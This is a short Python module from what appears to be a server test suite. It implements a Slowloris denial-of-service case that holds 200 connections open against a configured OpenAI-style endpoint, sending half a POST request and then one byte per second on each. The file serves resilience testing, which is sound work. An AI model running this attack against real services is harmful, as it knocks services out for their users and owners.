"""Slowloris: many HTTP connections that occasionally send one byte of a request."""

from __future__ import annotations

import asyncio
import contextlib

from tests.attacks.case import Target

TITLE = "HTTP connections with half a request each"
COUNT = 200


async def attack(target: Target) -> list[str]:
    """Open many connections, send a byte per second on each, and close them at the end."""
    host, port = target.openai.rsplit(":", 1)
    writers = []
    for _ in range(COUNT):
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(host, int(port))
            writer.write(b"POST /v1/completions HTTP/1.1\r\n")
            writers.append(writer)
    for _ in range(int(target.seconds)):
        await asyncio.sleep(1.0)
        for writer in writers:
            with contextlib.suppress(OSError):
                writer.write(b"x")
    for writer in writers:
        writer.close()
    return []
